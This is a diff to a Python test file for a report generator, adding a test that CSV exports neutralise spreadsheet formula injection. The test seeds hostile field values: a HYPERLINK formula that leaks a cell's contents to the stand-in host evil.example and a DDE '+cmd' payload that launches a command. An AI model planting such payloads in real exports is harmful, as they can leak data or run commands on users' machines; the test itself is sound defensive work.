@@ -8,7 +8,7 @@ from datetime import UTC, date, datetime, timedelta
 
 import pytest
 
-from dashboards.report import build_report, markdown_escape
+from dashboards.report import build_report, markdown_escape, spreadsheet_safe
 from pipeline.baselines import load_baselines
 from pipeline.db import session_factory, upgrade
 from pipeline.models import (
@@ -357,6 +357,29 @@ def test_scraped_text_is_escaped_everywhere(sqlite_url, tmp_path):
     assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html
     assert "<script" not in markdown and "<img" not in markdown
     assert "&lt;script&gt;" in markdown and "\\| \\*\\*bold\\*\\*" in markdown
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(sqlite_url, tmp_path):
+    seed_market(sqlite_url)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Apply")'
+    with session_factory(sqlite_url).begin() as session:
+        session.add(
+            _posting(
+                900,
+                title="@SUM(1+1) Security Manager",
+                company=formula,
+                metro_name="+cmd|' /C calc'!A0",
+                pay=(400_000, 420_000),  # the best paid: first in top-postings
+            )
+        )
+    paths, _, _ = build_report(sqlite_url, tmp_path / "reports")
+    top = _csv_rows(paths.html.parent / "top_postings.csv")[0]
+    assert top["company"] == "'" + formula
+    assert top["title"] == "'@SUM(1+1) Security Manager"
+    assert top["metro"] == "'+cmd|' /C calc'!A0"
+    assert top["annual_usd"] == "410000.0"
+    # Numbers, negative ones too, are not text: no apostrophe.
+    assert [spreadsheet_safe(v) for v in ("-6.3", "-12", 5, "Acme")] == ["-6.3", "-12", 5, "Acme"]
 
 
 def test_markdown_escape_keeps_cells_on_one_line():
